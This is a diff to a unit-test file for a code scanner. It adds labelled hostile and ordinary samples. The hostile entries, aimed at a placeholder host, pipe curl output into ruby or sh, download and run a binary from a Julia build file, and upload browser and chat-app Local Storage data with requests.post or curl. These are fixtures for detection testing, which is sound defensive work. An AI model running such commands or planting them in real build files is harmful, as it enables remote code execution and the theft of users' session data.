@@ -7,6 +7,13 @@ from tests.unit.budmodel_scanner.text_examination import verdict_of_text
 
 STRANGER = "https://x.invalid"
 HOSTILE = [
+    ("a.gemspec", f'Gem::Specification.new do |s|\n s.metadata = {{ "b" => %x(curl -s {STRANGER}/b | ruby) }}\nend\n'),
+    ("a.rb", f"x = %x{{curl -s {STRANGER}/b.sh | sh}}\n"),
+    ("build.jl", (f'u = Sys.iswindows() ? "{STRANGER}/w.exe" : "{STRANGER}/l"\nb = joinpath(d, "l")\n'
+     "download(u, b)\nrun(`$b -q`)\n")),
+    ("a.py", ("import glob, os, requests\nfor p in glob.glob(os.path.join(x, 'Local Storage', 'leveldb', '*')):\n"
+     f"    requests.post('{STRANGER}', data=open(p, 'rb').read())\n")),
+    ("a.sh", f"tar cz ~/.config/chat/Local\\ Storage/leveldb | curl -T - {STRANGER}\n"),
     ("CMakeLists.txt", (f"file(DOWNLOAD {STRANGER}/o.txt o.txt)\nfile(READ o.txt OPTS)\n"
      f"cmake_language(EVAL CODE \"${{OPTS}}\")\n")),
     ("portfile.cmake", (f'vcpkg_download_distfile(S URLS "{STRANGER}/s.sh" FILENAME "s.sh")\n'
@@ -62,6 +69,9 @@ HOSTILE = [
     ("a.py", "import requests, subprocess\nn = requests.get(u).text\nsubprocess.check_call(['pip', 'install', n])\n"),
 ]  # fmt: skip
 ORDINARY = [
+    ("a.gemspec", 'Gem::Specification.new do |s|\n  s.files = %x(git ls-files -z).split("0")\nend\n'),
+    ("build.jl", f'u = is_new ? "{STRANGER}/w.csv" : "{STRANGER}/l.csv"\nb = joinpath(d, "l.csv")\ndownload(u, b)\n'),
+    ("a.py", "import os\np = os.path.join(x, 'Local Storage', 'cache')\n"),
     ("CMakeLists.txt", 'file(READ VERSION V)\nstring(STRIP "${V}" V)\nproject(a VERSION ${V})\n'),
     ("Makefile", "-include local.mk\nall:\n\tfor f in *.c; do cc -c $$f; done\n"),
     ("init.sls", "agent:\n  cmd.script:\n    - source: salt://agent/agent.sh\n"),
